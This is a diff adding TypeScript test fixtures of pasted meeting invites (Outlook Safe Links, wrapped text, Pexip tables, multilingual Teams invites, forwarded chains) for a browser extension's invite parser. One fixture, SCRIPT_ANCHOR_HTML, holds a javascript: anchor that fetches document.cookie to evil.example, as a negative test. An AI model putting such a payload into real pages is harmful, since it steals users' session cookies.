@@ -140,3 +140,100 @@ Meeting ID: 312 456 789 012\r
 Passcode: aB3xYz\r
 ________________________________________________________________________________\r
 `;
+
+// ---- Pasted invites (the extension popup's "Paste an invite"), as mail clients hand them over ----
+
+/** The room most pasted fixtures link to, and a second one a forwarded mail links to. */
+export const BOARD = 'https://video.example.org/webapp3/m/board.review';
+export const SYNC = 'https://video.example.org/webapp3/m/team.sync';
+
+const SAFE_DATA =
+  '05%7C02%7Cana.lima%40example.com%7C3f1c0e2a9b4d4c1e8f0a08dc1a2b3c4d%7C72f988bf86f141af91ab2d7cd011db47%7C0%7C0%7C638412345678901234%7CUnknown%7CTWFpbGZsb3d8eyJWIjoiMC4wLjAwMDAiLCJQIjoiV2luMzIiLCJBTiI6Ik1haWwiLCJXVCI6Mn0%3D%7C0%7C%7C%7C&sdata=q1W2e3R4t5Y6u7I8o9P0aSdFgHjKlZxCvBnM%3D&reserved=0';
+/** `url` as Microsoft Defender's Safe Links rewrites it in a received mail. */
+export const safeLink = (url: string, host = 'eur02.safelinks.protection.outlook.com'): string =>
+  `https://${host}/?url=${encodeURIComponent(url)}&data=${SAFE_DATA}`;
+
+/** Outlook's plain text of a received invite: every link behind Safe Links, shown as "text<url>". */
+export const SAFE_LINKS_TEXT = `Please join the board review.\r
+\r
+Join the meeting<${safeLink(`${BOARD}?role=guest`)}>\r
+Guest PIN: 2468 1357\r
+`;
+
+/** The same, as plain-text mail hard-wraps it at 76 columns: the "<...>" URL runs over three lines. */
+export const WRAPPED_TEXT = (() => {
+  const url = safeLink(`${BOARD}?role=guest`);
+  const lines = [`Join the meeting<${url.slice(0, 60)}`, url.slice(60, 136), `${url.slice(136)}>`];
+  return `Please join the board review.\n\n${lines.join('\n')}\nGuest PIN: 2468 1357\n`;
+})();
+
+/** Pexip-style HTML: labels and values in table cells (no colons), links in anchors. */
+export const TABLE_HTML = `<table cellpadding="4" style="font-family:Arial">
+<tr><td style="font-weight:bold">Meeting link</td><td><a href="${BOARD}">Join the board review</a></td></tr>
+<tr><td style="font-weight:bold">Host PIN</td><td>4711 0815</td></tr>
+<tr><td style="font-weight:bold">Guest PIN</td><td>8080 1212</td></tr>
+</table>`;
+
+/** Labels and values on separate lines (`<br>`), as a signature-style invite writes them. */
+export const BR_SPLIT_HTML = `<p>Join from a browser: <a href="${BOARD}">${BOARD}</a></p>
+<p><b>Conference ID:</b><br>8642 9753<br><b>Passcode:</b><br>5566 7788</p>`;
+
+/** Teams- and Pexip-style invites written in German, French, Spanish, Dutch and Italian. */
+export const GERMAN_TEXT = `Microsoft Teams-Besprechung\nBesprechungs-ID: 312 456 789 012\nKenncode: aB3xYz\n\nVideokonferenz: ${BOARD}\nGast-PIN: 2468 1357\nModerator-PIN: 9753 1864\n`;
+export const FRENCH_TEXT = `Réunion Microsoft Teams\nID de réunion\u00a0: 312 456 789 012\nCode secret\u00a0: aB3xYz\n\nLien de la visioconférence : ${BOARD}\nCode PIN invité : 2468 1357\n`;
+export const SPANISH_TEXT = `Reunión de Microsoft Teams\nId. de reunión: 312 456 789 012\nCódigo de acceso: 2468 1357\n\nEnlace: ${BOARD}\nContraseña: Xy7pQ2rs\n`;
+export const DUTCH_TEXT = `Microsoft Teams-vergadering\nVergader-ID: 312 456 789 012\nWachtwoordcode: aB3xYz\n\nDeelnemen: ${BOARD}\nPincode: 2468 1357\n`;
+export const ITALIAN_TEXT = `Riunione di Microsoft Teams\nID riunione: 312 456 789 012\nPasscode: aB3xYz\n\nPartecipa: ${BOARD}\nCodice di accesso: 2468 1357\n`;
+
+/** Pexip's IVR sentences, as its invitation templates word them. */
+export const IVR_TEXT = `Join from a browser: ${BOARD}
+Join by phone: dial +44 20 3318 3333 and enter the conference ID 864297 followed by #.
+When prompted, enter the PIN 2468 1357 followed by #.
+Alternatively dial +47 21 93 00 00, then enter conference ID 864297#.
+`;
+
+/** A forwarded chain: the forwarder's own meeting on top, the forwarded invite (another room) below. */
+export const FORWARDED_TEXT = `FYI, see below. Our sync moved to ${SYNC}
+PIN: 1111 2222
+
+-----Original Message-----
+From: Board Office <board@example.org>
+Sent: Monday, 13 January 2025 08:12
+To: Ana Lima <ana.lima@example.com>
+Subject: Board review
+
+Join: ${BOARD}
+Guest PIN: 3333 4444
+Host PIN: 5555 6666
+`;
+
+/** Forwarded twice (German client): no meeting in the note, then the newest invite, then the original. */
+export const FORWARDED_TWICE_TEXT = `Zur Info, siehe unten.
+
+---------- Weitergeleitete Nachricht ---------
+Von: Board Office <board@example.org>
+Datum: Mo., 13. Jan. 2025 um 08:12
+Betreff: Aktualisiert: Board review
+
+Videokonferenz: ${BOARD}
+Gast-PIN: 7777 8888
+
+-----Ursprüngliche Nachricht-----
+Von: Board Office <board@example.org>
+Gesendet: Freitag, 10. Januar 2025 17:40
+Betreff: Board review
+
+Videokonferenz: ${SYNC}
+Gast-PIN: 3333 4444
+`;
+
+/** An anchor that shows a join URL but runs script: its text must never be read as a link. */
+export const SCRIPT_ANCHOR_HTML = `<p>Join: <a href="javascript:fetch('https://evil.example/'+document.cookie)">${BOARD}</a></p>
+<p>Guest PIN: 2468 1357</p>`;
+
+/** Codes with characters Pexip PINs never have: read whole, never cut to a PIN-shaped prefix. */
+export const SYMBOL_CODES_TEXT = `Join: ${BOARD}
+Passcode: 4821*99
+Meeting password: Tq*8$mZ2 (86572910 from phones and video systems)
+Guest PIN: 1357$
+`;
